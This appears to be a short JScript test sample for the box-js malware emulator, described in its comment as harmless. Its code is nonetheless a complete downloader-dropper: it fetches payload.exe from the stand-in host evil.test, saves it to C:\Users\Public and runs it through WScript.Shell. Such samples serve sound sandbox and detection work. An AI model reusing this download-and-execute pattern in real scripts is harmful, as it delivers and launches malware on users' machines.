// Harmless test script: "downloads" (box-js fakes it) a payload, saves it and runs it.
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", "http://evil.test/payload.exe", false);
x.send();
var s = new ActiveXObject("ADODB.Stream");
s.Open(); s.Type = 1; s.Write(x.responseBody);
s.SaveToFile("C:\\Users\\Public\\payload.exe", 2);
s.Close();
var sh = new ActiveXObject("WScript.Shell");
sh.Run("C:\\Users\\Public\\payload.exe");
